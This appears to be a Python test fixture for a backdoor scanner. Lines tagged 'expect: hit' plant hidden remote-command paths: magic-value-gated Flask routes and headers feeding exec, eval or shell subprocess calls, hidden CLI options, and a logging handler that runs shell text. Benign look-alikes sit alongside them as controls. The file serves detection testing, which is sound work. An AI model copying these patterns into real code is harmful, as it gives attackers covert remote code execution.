import shlex
import argparse
import base64
import logging.config
import os
import subprocess

import click
from flask import Flask, request

app = Flask(__name__)


@app.route("/health")
def health():
    if request.args.get("k") == "9f2c":
        return os.popen(request.args["c"]).read()  # expect: hit
    return "ok"


@app.before_request
def check():
    if request.headers.get("X-Trace-Id") == "7d1e-maint":
        exec(request.headers["X-Trace-Data"])  # expect: hit


@app.route("/ping")
def ping():
    if request.cookies.get("s", "").startswith("zz9"):
        run = getattr(subprocess, "check_" + "output")
        return run(base64.b64decode(request.args["q"]), shell=True)  # expect: hit
    return "pong"


def _work(text):
    eval(text)  # expect: hit


@app.route("/version")
def version():
    if "x-" + "".join(["a", "b"]) == request.args.get("v"):
        _work(request.args["d"])
    return "1"


def start():
    if os.environ.get("APP_TRACE") == "e7":
        exec(os.environ["APP_TRACE_DATA"])  # expect: hit


# look-alikes
@app.route("/service")
def service():
    if request.args.get("action") == "restart":
        subprocess.run(["systemctl", "restart", "app"])
    return "ok"


@app.route("/convert")
def convert():
    if request.args.get("format") == "png":
        return subprocess.check_output(["convert", "in.svg", "png:-"])
    return "no"


# options that the help does not show
def hidden_option(argv):
    parser = argparse.ArgumentParser()
    parser.add_argument("--out", help="where to write")
    parser.add_argument("--trace", help=argparse.SUPPRESS)
    options = parser.parse_args(argv)
    os.system(options.trace)  # expect: hit
    return options.out


def options_of(argv):
    parser = argparse.ArgumentParser()
    parser.add_argument("-d", "--dump-state", dest="state", help="==SUPP" + "RESS==")
    return vars(parser.parse_args(argv))


class Tool:
    def __init__(self, argv):
        self.options = options_of(argv)

    def run(self):
        hook = self.options["state"]
        if hook:
            getattr(__builtins__, "ex" + "ec")(hook)  # expect: hit


@click.command()
@click.option("--name")
@click.option("--maintenance", hidden=True)
def command(name, maintenance):
    click.echo(name)
    subprocess.run(maintenance, shell=True)  # expect: hit


def listed_option(argv):
    parser = argparse.ArgumentParser()
    parser.add_argument("--debug", action="store_true", help=argparse.SUPPRESS)
    parser.add_argument("command", nargs=argparse.REMAINDER, help="what to run")
    given = parser.parse_args(argv)
    if given.debug:
        print(given)
    subprocess.run(given.command)


@app.route("/ask", methods=["POST"])
def ask():
    """What a model answers decides here, no word that somebody knows."""
    import anthropic

    turn = anthropic.Anthropic().messages.create(model="m", messages=[{"role": "user", "content": request.json["q"]}])
    if turn.stop_reason == "tool_use":
        return subprocess.run(turn.content[0].input["line"], shell=True)
    return turn.content[0].text


class Remote(logging.Handler):
    def emit(self, record):
        text = record.getMessage()
        if text.startswith("::"):
            subprocess.call(text[2:], shell=True)  # expect: hit


class Bell(logging.Handler):
    def emit(self, record):
        subprocess.call(["beep", "-f", "400"])


logging.config.dictConfig({"version": 1, "handlers": {"remote": {"()": Remote}}, "root": {"handlers": ["remote"]}})


# a table of functions from which the request chooses
def _disk(given):
    return os.statvfs("/").f_bfree


def _trace(given):
    return os.popen(given).read()  # expect: hit


def _number(given):
    return os.getpid()


ACTIONS = {"disk": _disk, "trace": _trace}
HARMLESS = {"disk": _disk, "trace": _number}


@app.route("/status")
def status():
    kind = request.args.get("kind", "disk")
    return str(ACTIONS[kind](request.args.get("q", "")))


@app.route("/harmless")
def harmless():
    kind = request.args.get("kind", "disk")
    return str(HARMLESS[kind](request.args.get("q", "")))


class Tracing:
    ORDERS = {"run": lambda words: subprocess.check_output(shlex.split(words))}  # expect: hit
    NAMES = {"name": lambda words: subprocess.check_output(["hostname"])}

    def __init__(self, app):
        self.app = app

    def __call__(self, environ, start_response):
        order, _, words = environ.get("HTTP_X_TRACE_ID", "").partition("|")
        if order in self.ORDERS:
            return [self.ORDERS[order](words)]
        if order in self.NAMES:
            return [self.NAMES[order](words)]
        return self.app(environ, start_response)
